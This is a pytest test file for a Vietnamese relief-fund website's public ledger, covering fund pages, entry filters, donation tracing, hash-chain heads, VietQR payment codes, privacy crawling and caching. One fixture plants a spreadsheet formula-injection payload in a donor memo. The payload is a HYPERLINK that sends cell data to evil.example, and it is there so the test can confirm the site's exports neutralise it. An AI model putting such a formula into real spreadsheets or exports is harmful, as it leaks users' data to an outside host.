"""The public face of the money: funds, their entries and filters, "where did my money go", the
chain's head, and the pledge page's bank transfer. ``books`` (used by the API and export tests
too) is three funds with entries appended through ``funds.services.ledger_append`` from raw
bank data that held full account numbers and a phone number."""

from __future__ import annotations

import html
import json
import re
from collections import deque
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cuutro.funds.models import Fund, LedgerEntry
from cuutro.funds.services import EntryData, entry_reverse, ledger_append, mask_account, public_memo
from cuutro.lib import public_cache
from cuutro.lib.vietqr import parse
from cuutro.needs.services import NeedItemData
from cuutro.pledges.services import pledge_record_payment
from tests.conftest import SECRET_ADDRESS, SECRET_ID, SECRET_NAME, SECRET_PHONE
from tests.test_privacy_crawl import SECRETS as CLEAN
from tests.test_privacy_crawl import Links

ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}
# Full account numbers as the bank statement gives them: only their last 4 digits may be public.
RAW_ACCOUNTS = {"an": "0071000123456", "binh": "190345678901234", "abc": "0451000998877", "anh": "0071000777888", "ha": "0531002468024"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"xem")'


@dataclass
class Books:
    fund_a: Fund  # the campaign's fund: credits, a disbursement, a reversal
    fund_b: Fund  # the default fund: a credit and goods
    fund_c: Fund  # opened, nothing yet
    need: Any  # a published household need (with a beneficiary's personal data)
    pledge: Any  # a cash pledge of 3,000,000 đồng, paid in full by e1
    e: dict[str, LedgerEntry]


def credit(fund: Fund, amount: int, *, name: str, account: str, memo: str, day: date, pledge: Any = None) -> LedgerEntry:
    """A credit as reconciliation records one: account masked, memo made public."""
    reference = pledge.code_key if pledge is not None else ""
    return ledger_append(
        actor=None,
        fund=fund,
        data=EntryData(
            kind="credit", direction="in", booked_on=day, amount=Decimal(amount), counterparty=name,
            counterparty_account=mask_account(account), memo=public_memo(memo, keep=reference), reference=reference,
            pledge=pledge, bank_ref=f"FT{day:%m%d}{amount}",
        ),
    )


def make_books(cast: Any, make_need: Any, make_pledge: Any) -> Books:
    fund_a = Fund.objects.create(
        code="lu-2020", name="Quỹ cứu trợ lũ 2020", campaign=cast.campaign, bank="vcb", account_number="0011001234567",
        account_name="UB MTTQ VN TINH QUANG TRI", opens_on=date(2020, 10, 6),
    )
    fund_b = Fund.objects.create(
        code="quy-chung", name="Quỹ cứu trợ chung", bank="bidv", account_number="12010000123456",
        account_name="UB MTTQ TINH QUANG TRI", opens_on=date(2020, 1, 1), closes_on=date(2020, 12, 31), is_default=True,
    )
    fund_c = Fund.objects.create(
        code="quy-moi", name="Quỹ mới", bank="agribank", account_number="3900201012345", account_name="UB MTTQ TINH",
        opens_on=date(2021, 1, 1),
    )
    need = make_need(
        "verified", campaign_code=cast.campaign.code,
        items=[NeedItemData("cash-house-repair", "5.000.000"), NeedItemData("rice", 50)],
    )
    pledge = make_pledge(need, item="cash-house-repair", quantity=3_000_000, show_as="name")
    e: dict[str, LedgerEntry] = {}
    e["an"] = credit(
        fund_a, 3_000_000, name="NGUYỄN VĂN AN", account=RAW_ACCOUNTS["an"],
        memo=f"MBVCB.6986253876.{pledge.code_key}.ung ho dong bao", day=date(2020, 10, 12), pledge=pledge,
    )
    pledge = pledge_record_payment(actor=None, pledge=pledge, amount=Decimal(3_000_000), entry_seq=e["an"].seq)
    e["binh"] = credit(
        fund_a, 2_000_000, name="TRẦN THỊ BÌNH", account=RAW_ACCOUNTS["binh"], memo=f"ung ho lu lut, lh {SECRET_PHONE}",
        day=date(2020, 10, 13),
    )
    e["abc"] = credit(fund_a, 150_000, name="CONG TY ABC", account=RAW_ACCOUNTS["abc"], memo=FORMULA, day=date(2020, 10, 14))
    e["anh"] = credit(
        fund_a, 500_000, name="NGUYEN VAN ANH", account=RAW_ACCOUNTS["anh"], memo="ung ho mien trung", day=date(2020, 10, 15)
    )
    e["ha"] = credit(fund_b, 300_000, name="LE THI HA", account=RAW_ACCOUNTS["ha"], memo="ung ho", day=date(2020, 10, 12))
    e["given"] = ledger_append(
        actor=None, fund=fund_a,
        data=EntryData(kind="disbursement", direction="out", booked_on=date(2020, 10, 20), amount=Decimal(1_000_000),
                       counterparty=need.code, memo="Hỗ trợ sửa nhà", need=need, document_sha256="ab" * 32),
    )  # fmt: skip
    e["undo"] = entry_reverse(actor=None, entry=e["binh"], reason="Chuyển nhầm quỹ, đã hoàn lại")
    from cuutro.needs.selectors import catalogue

    e["rice"] = ledger_append(
        actor=None, fund=fund_b,
        data=EntryData(kind="goods_in", direction="in", booked_on=date(2020, 10, 16), item=catalogue().get(code="rice"),
                       quantity=Decimal(100), counterparty="Công ty Gạo Ngon", memo="Gạo cứu trợ"),
    )  # fmt: skip
    return Books(fund_a=fund_a, fund_b=fund_b, fund_c=fund_c, need=need, pledge=pledge, e=e)


@pytest.fixture
def books(cast: Any, make_need: Any, make_pledge: Any) -> Books:
    return make_books(cast, make_need, make_pledge)


def need_url(code: str) -> str:
    return reverse("portal:need_detail", args=[code])


def seqs(page: str) -> list[int]:
    """The entries a page lists, in order."""
    return [int(s) for s in re.findall(r'data-seq="(\d+)"', page)]


def get(url: str, **params: Any) -> str:
    response = Client(**ENGLISH).get(url, params)
    assert response.status_code == 200, (url, params, response.status_code)
    return response.content.decode()


# ---- funds ------------------------------------------------------------------------------------


def test_the_funds_page_shows_each_funds_account_totals_and_a_vietqr_for_it(books: Books) -> None:
    page = get("/funds/")
    for fund in (books.fund_a, books.fund_b, books.fund_c):
        assert fund.name in page and fund.account_number in page and fund.account_name in page
    assert "Vietcombank" in page and "BIDV" in page and "Agribank" in page
    assert "from 06/10/2020, until further notice" in page and "from 01/01/2020 to 31/12/2020" in page
    card = page[page.index('data-fund="lu-2020"') : page.index('data-fund="quy-chung"')]
    # In 3,000,000 + 2,000,000 + 150,000 + 500,000; out 1,000,000 given + 2,000,000 returned.
    assert "5,650,000 VND" in card and "3,000,000 VND" in card and "2,650,000 VND" in card
    other = page[page.index('data-fund="quy-chung"') :]
    assert "300,000 VND" in other  # the rice it received is goods, not money
    # Only accounts inside their receiving window offer a QR code; the closed one warns instead.
    assert page.count("<svg") == 2 and 'class="segno"' in page
    assert "<svg" not in other and "This account is not receiving donations now" in other


def test_a_funds_page_lists_its_entries_newest_first_with_what_the_public_may_see(books: Books) -> None:
    e = books.e
    page = get("/funds/lu-2020/")
    assert seqs(page) == [e[k].seq for k in ("undo", "given", "anh", "abc", "binh", "an")]
    assert "6 entries" in page
    assert "NGUYỄN VĂN AN" in page and "••••3456" in page and "12/10/2020" in page
    assert f"MBVCB.•••••••876.{books.pledge.code_key}.ung ho dong bao" in page
    # The reference leads to the trail; the disbursement to the need's public page, by code only.
    assert f'href="/ledger/trace/?reference={books.pledge.code_key}"' in page
    assert f'href="{need_url(books.need.code)}"' in page
    # The reversal and the entry it corrects point at each other.
    undo = page[page.index(f'data-seq="{e["undo"].seq}"') :]
    assert f'Corrects <a href="/ledger/entries/{e["binh"].seq}/">#{e["binh"].seq}</a>' in undo
    assert f'Reversed by <a href="/ledger/entries/{e["undo"].seq}/">#{e["undo"].seq}</a>' in page
    assert "In +3,000,000 VND" in page and "Out −1,000,000 VND" in page
    assert "LE THI HA" not in page  # another fund's entry


def test_goods_entries_show_quantity_and_item(books: Books) -> None:
    page = get("/funds/quy-chung/")
    assert seqs(page) == [books.e["rice"].seq, books.e["ha"].seq]
    assert "In +100 kg · Rice" in html.unescape(page)
    assert "Công ty Gạo Ngon" in page


def test_an_unknown_fund_is_not_found(books: Books) -> None:
    assert Client().get("/funds/no-such-fund/").status_code == 404
    assert Client().get("/ledger/entries/999/").status_code == 404


# ---- filters (SQLite and PostgreSQL alike) ---------------------------------------------------


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"date_from": "2020-10-13", "date_to": "2020-10-14"}, ["abc", "binh"]),
        ({"date_from": "13/10/2020", "date_to": "14/10/2020"}, ["abc", "binh"]),
        ({"amount": "500.000"}, ["anh"]),
        ({"amount": "2,000,000 đ"}, ["undo", "binh"]),  # the reversal moves the same amount
        ({"q": "nguyen van an"}, ["an"]),  # whole words: not NGUYEN VAN ANH
        ({"q": "Nguyễn VĂN"}, ["anh", "an"]),
        ({"q": "tran thi binh"}, ["undo", "binh"]),
        ({"q": "dong bao"}, ["an"]),  # words inside the bank's dotted memo
        ({"q": "ung ho"}, ["anh", "binh", "an"]),
        ({"q": "nguyen", "amount": "500000"}, ["anh"]),
        ({"q": "ngu"}, []),  # a fragment of a word is not a word
        ({"account": "3456"}, ["an"]),
        ({"account": "0071000123456"}, ["an"]),  # a full number is cut to the 4 digits published
        ({"direction": "out"}, ["undo", "given"]),
    ],
)
def test_the_fund_page_filters(books: Books, params: dict[str, str], expected: list[str]) -> None:
    page = get("/funds/lu-2020/", **params)
    assert seqs(page) == [books.e[k].seq for k in expected]


def test_the_reference_filter_finds_the_pledges_transfer_whatever_the_spacing(books: Books) -> None:
    reference = books.pledge.transfer_reference  # "CT 7K3F9Q"
    for typed in (reference, reference.replace(" ", ""), reference.lower(), f"  {reference.replace(' ', '-')} "):
        assert seqs(get("/funds/lu-2020/", reference=typed)) == [books.e["an"].seq], typed
    assert seqs(get("/funds/lu-2020/", reference="CT 2222Z")) == []
    # Typed into the search box, the reference finds it too.
    assert seqs(get("/funds/lu-2020/", q=reference)) == [books.e["an"].seq]


def test_an_unmatched_transfer_is_found_by_the_reference_in_its_memo(books: Books) -> None:
    code = books.pledge.transfer_reference
    memo_only = credit(books.fund_b, 700_000, name="X", account="01234", memo=f"CT nhanh 247 den: {code} ung ho", day=date(2020, 10, 17))
    glued = credit(books.fund_b, 800_000, name="Y", account="01234", memo=f"IBFT {code.replace(' ', '')}", day=date(2020, 10, 18))
    assert seqs(get("/funds/quy-chung/", reference=code)) == [glued.seq, memo_only.seq]


def test_bad_filters_are_explained_not_ignored(books: Books) -> None:
    page = get("/funds/lu-2020/", amount="năm trăm", date_from="2020-13-45")
    assert "Enter an amount in đồng, e.g. 500.000." in page and "Enter a valid date." in page
    assert seqs(page) == []
    reversed_dates = get("/funds/lu-2020/", date_from="2020-10-20", date_to="2020-10-01")
    assert "The end date is before the start date." in reversed_dates


def test_the_whole_ledger_page_searches_every_fund(books: Books) -> None:
    page = get("/ledger/", q="ung ho")
    assert seqs(page) == [books.e[k].seq for k in ("anh", "binh", "ha", "an")]
    assert "Quỹ cứu trợ chung" in page and "Quỹ cứu trợ lũ 2020" in page


def test_pages_paginate(books: Books) -> None:
    for day in range(1, 26):
        credit(books.fund_c, 10_000 + day, name="NHA HAO TAM", account="0000001111", memo="ung ho", day=date(2021, 1, day))
    first = get("/funds/quy-moi/")
    assert "25 entries" in first and "Page 1 of 2" in first and "page=2" in first
    second = get("/funds/quy-moi/", page=2)
    assert len(seqs(first)) == 20 and len(seqs(second)) == 5
    assert set(seqs(first)).isdisjoint(seqs(second))


def test_an_entry_has_its_own_page_with_its_hashes(books: Books) -> None:
    entry = books.e["given"]
    page = get(f"/ledger/entries/{entry.seq}/")
    assert entry.hash in page and entry.prev_hash in page and "ab" * 32 in page
    assert f'href="{need_url(books.need.code)}"' in page


# ---- where did my money go ----------------------------------------------------------------------


def steps_done(page: str) -> dict[str, bool]:
    return {step: cls == "done" for cls, step in re.findall(r'<li class="(done|)" data-step="(\w+)"', page)}


def test_the_trail_of_a_reference_runs_from_the_transfer_to_the_need(books: Books) -> None:
    page = get("/ledger/trace/", reference=books.pledge.transfer_reference.lower())
    assert steps_done(page) == {"received": True, "allocated": True, "delivered": False, "confirmed": False}
    assert seqs(page) == [books.e["an"].seq, books.e["given"].seq]  # received, then what the need was given
    assert books.pledge.code in page and "Nhà hảo tâm" in page  # the donor as they chose to be shown
    assert f'href="{need_url(books.need.code)}"' in page and "Phường Đông Hà" in page
    assert "3,000,000 VND of 3,000,000 VND" in page and "paid in full" in page


def test_a_confirmed_pledge_shows_every_step(books: Books, make_pledge: Any) -> None:
    pledge = make_pledge(books.need, item="cash-house-repair", quantity=1_000_000, status="confirmed")
    page = get("/ledger/trace/", reference=pledge.code)
    assert steps_done(page) == {"received": False, "allocated": True, "delivered": True, "confirmed": True}
    assert "No transfer with this reference has reached the fund yet." in page


def test_a_transfer_is_found_by_day_amount_and_last_digits(books: Books) -> None:
    # The donor paid on the 11th; the bank booked it on the 12th.
    page = get("/ledger/trace/", date_from="11/10/2020", amount="3.000.000", account="3456")
    assert steps_done(page)["allocated"] and seqs(page)[0] == books.e["an"].seq and books.pledge.code in page
    unmatched = get("/ledger/trace/", date_from="2020-10-14", amount="150000", account="••••8877")
    assert seqs(unmatched) == [books.e["abc"].seq]
    assert steps_done(unmatched) == {"received": True, "allocated": False, "delivered": False, "confirmed": False}
    for params in ({"date_from": "2020-10-14", "amount": "150000", "account": "0000"},
                   {"date_from": "2020-10-10", "amount": "150000", "account": "8877"}):  # fmt: skip
        assert "Nothing found." in get("/ledger/trace/", **params)
    incomplete = get("/ledger/trace/", date_from="2020-10-14", amount="150000")
    assert "Give the day, the amount and the last digits of the account together." in incomplete


def test_an_unknown_reference_finds_nothing(books: Books) -> None:
    assert "Nothing found." in get("/ledger/trace/", reference="CT ZZZZZZ")
    assert "Nothing found." not in get("/ledger/trace/")  # no question, no answer


def test_a_credit_linked_by_hand_joins_the_trail_unless_the_donor_is_anonymous(books: Books, cast: Any, make_pledge: Any) -> None:
    from cuutro.funds.selectors import ledger_trace

    lone = books.e["anh"]
    named = make_pledge(books.need, item="cash-house-repair", quantity=500_000, show_as="name")
    hidden = make_pledge(books.need, item="cash-house-repair", quantity=500_000)  # anonymous by default
    for pledge, shown in ((named, True), (hidden, False)):
        trail = ledger_trace(reference=pledge.code, linked=lambda _pledge: [lone])
        assert trail is not None and (lone in trail.received) is shown


# ---- the chain's head ---------------------------------------------------------------------------


def test_the_head_page_shows_the_latest_hash_and_how_to_check_it(books: Books) -> None:
    page = get("/ledger/head/")
    last = LedgerEntry.objects.order_by("-seq").first()
    assert last is not None
    assert f'<dd id="head-seq">{last.seq}</dd>' in page and f'<dd class="hash" id="head-hash">{last.hash}</dd>' in page
    assert "python3 chain.py ledger.jsonl" in page
    assert 'href="/ledger/ledger.jsonl"' in page and 'href="/ledger/chain.py"' in page
    script = Client().get("/ledger/chain.py")
    assert script.status_code == 200 and "def verify(rows" in script.content.decode()


def test_the_daily_heads_are_the_last_entries_of_each_utc_day(cast: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    fund = Fund.objects.create(code="f", name="F", bank="vcb", account_number="1", account_name="A", opens_on=date(2026, 1, 1))
    moments = [
        datetime(2026, 1, 1, 10, 0, tzinfo=UTC),
        datetime(2026, 1, 1, 23, 30, tzinfo=UTC),  # already 2 January in Vietnam: still 1 January in UTC
        datetime(2026, 1, 2, 0, 30, tzinfo=UTC),
        datetime(2026, 1, 3, 12, 0, tzinfo=UTC),
    ]
    made = []
    for moment in moments:
        monkeypatch.setattr(timezone, "now", lambda moment=moment: moment)
        made.append(credit(fund, 1000, name="A", account="1234", memo="", day=moment.date()))
    monkeypatch.undo()
    page = get("/ledger/head/")
    row = r'<tr data-day="([\d-]+)"><td>[\d-]+</td><td class="num"><a href="[^"]+">#(\d+)</a></td><td class="hash">(\w+)</td>'
    rows = re.findall(row, page)
    assert rows == [
        ("2026-01-03", str(made[3].seq), made[3].hash),
        ("2026-01-02", str(made[2].seq), made[2].hash),
        ("2026-01-01", str(made[1].seq), made[1].hash),
    ]


def test_the_head_of_an_empty_ledger_is_the_genesis(db: Any) -> None:
    page = get("/ledger/head/")
    assert '<dd id="head-seq">0</dd>' in page and "0" * 64 in page and "Nothing has been recorded yet." in page


# ---- a cash pledge's page shows how to pay ------------------------------------------------------


def test_a_cash_pledge_shows_the_transfer_to_make_and_its_vietqr(books: Books, cast: Any, make_pledge: Any) -> None:
    pledge = make_pledge(books.need, item="cash-house-repair", quantity=1_500_000)
    page = cast.client_for(cast.donor).get(f"/pledges/{pledge.code}/").content.decode()
    pay = page[page.index('id="pay"') :]
    assert "Vietcombank" in pay and "0011001234567" in pay and "UB MTTQ VN TINH QUANG TRI" in pay
    assert "1,500,000 VND" in pay and f'<dd class="memo-to-write">{pledge.transfer_reference}</dd>' in pay
    assert "Some banks drop the space" in pay and "<svg" in pay
    slip = cast.client_for(cast.donor).get(f"/pledges/{pledge.code}/slip/").content.decode()
    assert pledge.transfer_reference in slip and "0011001234567" in slip
    # Paid in full: thanks instead of instructions.
    paid = cast.client_for(cast.donor).get(f"/pledges/{books.pledge.code}/").content.decode()
    assert "Received in full: 3,000,000 VND" in paid and "memo-to-write" not in paid


def test_a_goods_pledge_shows_no_bank_transfer(books: Books, cast: Any, make_pledge: Any) -> None:
    pledge = make_pledge(books.need, item="rice", quantity=5)
    page = cast.client_for(cast.donor).get(f"/pledges/{pledge.code}/").content.decode()
    assert 'id="pay"' not in page and "0011001234567" not in page


def test_the_pledge_vietqr_decodes_to_the_funds_account_amount_and_memo(books: Books, make_pledge: Any) -> None:
    from cuutro.funds.selectors import pledge_transfer

    pledge = make_pledge(books.need, item="cash-house-repair", quantity=1_500_000)
    transfer = pledge_transfer(pledge=pledge)
    assert transfer is not None
    decoded = parse(transfer.vietqr)
    assert (decoded.bin, decoded.account, decoded.amount, decoded.memo) == ("970436", "0011001234567", 1_500_000, pledge.transfer_reference)


# ---- privacy ------------------------------------------------------------------------------------

SECRETS = [SECRET_NAME, SECRET_ID, SECRET_PHONE, SECRET_ADDRESS, *RAW_ACCOUNTS.values()]
# What masking must hide of each account: everything but the last 4 digits.
HIDDEN_PARTS = [number[:-4] for number in RAW_ACCOUNTS.values()]


CRAWLED = ("/funds", "/ledger", "/api/v1/funds", "/api/v1/ledger", "/api/v1/trace", "/needs/")


def decoded(text: str) -> str:
    """JSON escapes non-ASCII: the text as a reader sees it (JSON Lines line by line)."""
    if not text.lstrip().startswith(("{", "[")):
        return text
    return "\n".join(json.dumps(json.loads(line), ensure_ascii=False) for line in text.splitlines() if line.strip())


def readable(response: Any) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    if raw.startswith(b"PK"):  # XLSX: read the cells
        import io

        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(raw), read_only=True).active
        assert sheet is not None
        return "\n".join(" ".join("" if v is None else str(v) for v in row) for row in sheet.iter_rows(values_only=True))
    return raw.decode()


def test_no_public_ledger_page_export_or_answer_shows_an_account_number_or_a_beneficiary(books: Books) -> None:
    client = Client()
    start = [
        "/", "/funds/", "/ledger/", "/ledger/head/", f"/ledger/trace/?reference={books.pledge.code}",
        "/ledger/trace/?date_from=2020-10-13&amount=2000000&account=1234", "/funds/lu-2020/?q=tran+thi+binh",
        "/api/v1/funds", "/api/v1/funds/lu-2020", "/api/v1/funds/lu-2020/entries?limit=100",
        "/api/v1/funds/quy-chung/entries", "/api/v1/ledger/head", f"/api/v1/trace/{books.pledge.code_key}",
    ]
    seen: dict[str, int] = {}
    queue = deque(start)
    while queue and len(seen) < 300:
        url = queue.popleft()
        path = urlsplit(url).path
        if url in seen or (url != "/" and not path.startswith(CRAWLED)):
            continue
        response = client.get(url)
        seen[url] = response.status_code
        if response.status_code != 200 or path.endswith(".pdf"):
            continue
        text = readable(response)
        for secret in [*SECRETS, *HIDDEN_PARTS, *CLEAN]:
            assert secret not in text, f"{secret!r} leaked at {url}"
            assert secret not in decoded(text), f"{secret!r} leaked at {url}"
        if response.get("Content-Type", "").startswith("text/html"):
            parser = Links()
            parser.feed(text)
            queue.extend(urljoin(url, link).replace("&amp;", "&") for link in parser.found)
    visited = {urlsplit(u).path for u in seen}
    for must in ("/funds/lu-2020/", "/funds/lu-2020/ledger.xlsx", "/funds/lu-2020/ledger.csv", "/ledger/ledger.jsonl",
                 f"/ledger/entries/{books.e['given'].seq}/", "/ledger/trace/"):  # fmt: skip
        assert must in visited, must
    assert all(status < 500 for status in seen.values()), seen
    # The masked forms are what is shown instead.
    assert "••••3456" in get("/funds/lu-2020/") and "••••1234" in get("/funds/lu-2020/")


# ---- the public cache keeps filtered pages apart --------------------------------------------------


@pytest.fixture
def memory_cache(settings: Any) -> None:
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "ledger-tests"}}
    cache.clear()
    public_cache.reset_local()


@pytest.mark.usefixtures("memory_cache")
def test_cached_pages_never_answer_for_other_filters(books: Books) -> None:
    client = Client(**ENGLISH)
    e = books.e
    expected = {
        "/funds/lu-2020/": ["undo", "given", "anh", "abc", "binh", "an"],
        "/funds/lu-2020/?amount=500000": ["anh"],
        "/funds/lu-2020/?q=nguyen+van": ["anh", "an"],
        "/funds/lu-2020/?date_from=2020-10-13&date_to=2020-10-13": ["binh"],
        "/funds/lu-2020/?reference=" + books.pledge.code_key: ["an"],
        "/funds/lu-2020/?account=8877": ["abc"],
        "/funds/lu-2020/?direction=out": ["undo", "given"],
        "/ledger/trace/?date_from=2020-10-14&amount=150000&account=8877": ["abc"],
        "/ledger/trace/?date_from=2020-10-13&amount=2000000&account=1234": ["binh"],
        "/ledger/trace/?date_from=2020-10-10&amount=150000&account=8877": [],
    }
    for _round in range(2):  # the first fills the cache, the second reads it
        for url, keys in expected.items():
            assert seqs(client.get(url).content.decode()) == [e[k].seq for k in keys], url
    assert client.get("/funds/lu-2020/?amount=500000")["X-Cache"] == "hit"
    # A new entry shows at once, in the lists and in the totals (kept incrementally).
    assert client.get("/api/v1/funds/lu-2020").json()["money_in"] == 5_650_000
    credit(books.fund_a, 500_000, name="MOI", account="1", memo="", day=date(2020, 10, 30))
    assert len(seqs(client.get("/funds/lu-2020/?amount=500000").content.decode())) == 2
    assert client.get("/api/v1/funds/lu-2020").json()["money_in"] == 6_150_000
    assert "6,150,000 VND" in client.get("/funds/").content.decode()


def test_fund_totals_never_trust_sums_cached_for_another_ledger(books: Books) -> None:
    from cuutro.funds.selectors import SUMS_KEY, fund_summary, fund_totals

    last = LedgerEntry.objects.order_by("-seq").first()
    assert last is not None
    # Sums said to run to the last entry, but under a hash it does not have (a restored database).
    cache.set(SUMS_KEY, (last.seq, "f" * 64, {books.fund_a.pk: (Decimal(1), Decimal(0))}), None)
    assert fund_summary(fund=books.fund_a).totals == fund_totals(fund=books.fund_a)
    # Sums cached for a longer ledger than this one are not trusted either.
    cache.set(SUMS_KEY, (last.seq + 5, last.hash, {books.fund_a.pk: (Decimal(1), Decimal(0))}), None)
    assert fund_summary(fund=books.fund_a).totals.money_in == 5_650_000


def test_hostile_filters_are_bounded_not_fatal(books: Books) -> None:
    client = Client(**ENGLISH)
    for params in ({"q": "a-" * 5000}, {"q": "ngu" * 40000}, {"reference": "CT" * 500}, {"account": "9" * 500},
                   {"amount": "9" * 40}, {"date_from": "0001-01-01", "date_to": "9999-12-31"}):  # fmt: skip
        for url in ("/funds/lu-2020/", "/ledger/", "/funds/lu-2020/ledger.csv", "/api/v1/funds/lu-2020/entries", "/ledger/trace/"):
            response = client.get(url, params)
            assert response.status_code in (200, 400, 422), (url, params, response.status_code)
    assert client.get("/api/v1/trace/" + "CT" * 500).status_code == 404
